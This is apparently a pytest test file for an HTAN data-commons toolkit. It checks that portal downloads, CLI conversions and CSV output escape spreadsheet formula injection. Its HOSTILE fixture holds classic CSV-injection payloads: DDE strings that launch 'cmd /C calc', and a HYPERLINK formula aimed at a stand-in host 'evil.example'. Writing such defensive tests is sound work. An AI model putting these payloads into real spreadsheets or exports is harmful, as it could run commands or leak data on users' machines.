"""Issue 11.8: formula injection through CSV/TSV manifests opened in a spreadsheet.

A file's name and metadata come from outside (a portal, another commons, a user's sheet). A cell
starting with ``=``, ``+``, ``-``, ``@``, tab or CR is run as a formula by Excel, LibreOffice and
Google Sheets (OWASP, "CSV Injection"). The attack: a catalog holding such values, downloaded
from the portal in every delimited format, and converted with the CLI. No cell may start with
one of those characters as a spreadsheet reads it (a leading ``'`` makes it text); reading the
file back with the toolkit gives the original values, and JSON keeps them as they are.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from htan_cds.manifest import read_manifest
from tests.conftest import run_cli

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "name": "=HYPERLINK(\\\\evil.example\\x,Open)",
    "atlas_name": "+cmd|' /C calc'!A0",
    "HTAN_Center": "@SUM(1+1)*cmd|' /C calc'!A0",
    "assay": "-2+3+cmd|' /C calc'!A0",
    "level": "\t=1+1",
    "Data_Release": "\r=1+1",
}


@pytest.fixture(scope="module")
def catalog_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data home whose catalog holds one open file with hostile values."""
    from htan_cds.catalog import Catalog
    from htan_cds.config import DataHome

    home = DataHome.open(tmp_path_factory.mktemp("formula") / "home")
    with Catalog.open(home) as catalog:
        catalog.set_meta("drs_authority", "127.0.0.1:8000")
        catalog.insert_rows(
            "files",
            [
                {
                    "drs_id": "dg.HCDS/evil1",
                    "HTAN_Data_File_ID": "HTA1_1_1",
                    "access": "open",
                    "created_time": datetime(2024, 1, 1),
                    **HOSTILE,
                }
            ],
        )
    return home.root


@pytest.fixture(scope="module")
def portal(catalog_home: Path) -> Iterator[Any]:
    from starlette.testclient import TestClient

    from htan_cds.config import DataHome
    from htan_cds.server import ServerConfig, create_app

    app = create_app(ServerConfig(home=DataHome.open(catalog_home), port=8000))
    with TestClient(app, base_url="http://127.0.0.1:8000") as client:
        yield client


def _cells(text: str, delimiter: str) -> list[str]:
    """Every cell as a spreadsheet's CSV import splits it (quotes removed)."""
    return [
        c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row
    ]


def _delimited_portal_formats() -> list[tuple[str, str]]:
    """Every delimited format the portal offers, with its delimiter (JSON ones left out)."""
    from htan_cds.manifest import get_format
    from htan_cds.server.portal.manifests import FORMATS

    found = [(name, get_format(name).delimiters) for name in FORMATS]
    return [(name, delimiters[0]) for name, delimiters in found if delimiters]


def _assert_no_formula_and_values_back(text: str, delimiter: str) -> None:
    assert not [c for c in _cells(text, delimiter) if c.startswith(TRIGGERS)]
    (row,) = read_manifest(io.StringIO(text, newline=""))
    values = {row.name, *row.metadata.values()}
    # The name was also made a safe file name (no \\ or | or ', …): it still starts with =.
    assert row.name is not None and row.name.startswith("=HYPERLINK")
    assert {HOSTILE["atlas_name"], HOSTILE["assay"], HOSTILE["level"]} <= values


@pytest.mark.parametrize(("fmt", "delimiter"), _delimited_portal_formats())
def test_portal_downloads_never_start_a_cell_with_a_formula(
    portal: Any, fmt: str, delimiter: str
) -> None:
    cart = {"filters": [{"access": ["open"]}]}
    response = portal.post("/api/cart/manifest", data={"cart": json.dumps(cart), "format": fmt})
    assert response.status_code == 200, response.text
    _assert_no_formula_and_values_back(response.content.decode("utf-8-sig"), delimiter)


def test_the_cgc_export_never_starts_a_cell_with_a_formula(portal: Any) -> None:
    cart = {"filters": [{"access": ["open"]}]}
    response = portal.post(
        "/api/cart/export",
        data={"cart": json.dumps(cart)},
        headers={"Accept": "application/json"},
    )
    assert response.status_code == 200, response.text
    parts = urlsplit(response.json()["url"])
    got = portal.get(f"{parts.path}?{parts.query}")
    assert got.status_code == 200
    _assert_no_formula_and_values_back(got.content.decode("utf-8-sig"), ",")


def test_gen3_keeps_the_real_values(portal: Any) -> None:
    cart = {"filters": [{"access": ["open"]}]}
    response = portal.post("/api/cart/manifest", data={"cart": json.dumps(cart), "format": "gen3"})
    (entry,) = response.json()
    assert entry["atlas_name"] == HOSTILE["atlas_name"] and entry["assay"] == HOSTILE["assay"]


def _delimited_writers() -> list[tuple[str, str]]:
    """Every writable delimited format with every delimiter it may be written with."""
    from htan_cds.manifest import format_names, get_format

    return [
        (name, delimiter)
        for name in format_names(writable=True)
        for delimiter in get_format(name).delimiters
    ]


@pytest.mark.parametrize(("fmt", "delimiter"), _delimited_writers())
def test_cli_convert_escapes_and_reads_back(tmp_path: Path, fmt: str, delimiter: str) -> None:
    # The input has the delimiter to write, which --keep-delimiter then keeps.
    src = tmp_path / "in.txt"
    header = ["drs_uri", "name", "note", "who", "tabbed", "cr"]
    values = ["dg.4DFC/a", "-1.tif", "=1+1", "@x", "\t=2", "\r+3"]
    with src.open("w", newline="") as fh:
        writer = csv.writer(fh, delimiter=delimiter, quoting=csv.QUOTE_ALL)
        writer.writerows([header, values])
    out = tmp_path / "out.txt"
    result = run_cli(
        "manifest", "convert", str(src), "--to", fmt, "-o", str(out), "--fix", "--keep-delimiter",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8-sig", newline="") as fh:
        text = fh.read()
    assert not [c for c in _cells(text, delimiter) if c.startswith(TRIGGERS)]
    (row,) = read_manifest(out)
    assert row.name == "-1.tif"
    expected = {"note": "=1+1", "who": "@x", "tabbed": "\t=2", "cr": "\r+3"}
    assert expected.items() <= row.metadata.items()


def test_cli_convert_without_escaping_writes_the_bare_value(tmp_path: Path) -> None:
    src = tmp_path / "in.json"
    src.write_text(json.dumps([{"object_id": "dg.4DFC/a", "file_name": "-1.tif", "note": "=1"}]))
    raw = tmp_path / "raw.csv"
    bare = run_cli(
        "manifest", "convert", str(src), "--to", "cgc", "-o", str(raw), "--fix",
        "--no-escape-formulas",
    )  # fmt: skip
    assert bare.returncode == 0, bare.stderr
    assert {"-1.tif", "=1"} <= set(_cells(raw.read_text(), ","))


def test_cli_manifest_create_escapes(tmp_path: Path, catalog_home: Path) -> None:
    out = tmp_path / "create.csv"
    result = run_cli("manifest", "create", "--format", "cgc", "-o", str(out), home=catalog_home)
    assert result.returncode == 0, result.stderr
    _assert_no_formula_and_values_back(out.read_text(encoding="utf-8-sig"), ",")


def test_find_csv_escapes_text_cells(catalog_home: Path) -> None:
    result = run_cli("find", "--csv", home=catalog_home)
    assert result.returncode == 0, result.stderr
    assert not [c for c in _cells(result.stdout, ",") if c.startswith(TRIGGERS)]
    (row,) = read_manifest(io.StringIO(result.stdout, newline=""))
    assert {HOSTILE["atlas_name"], HOSTILE["assay"]} <= set(row.metadata.values())
    bare = run_cli("find", "--csv", "--no-escape-formulas", home=catalog_home)
    assert HOSTILE["atlas_name"] in _cells(bare.stdout, ",")
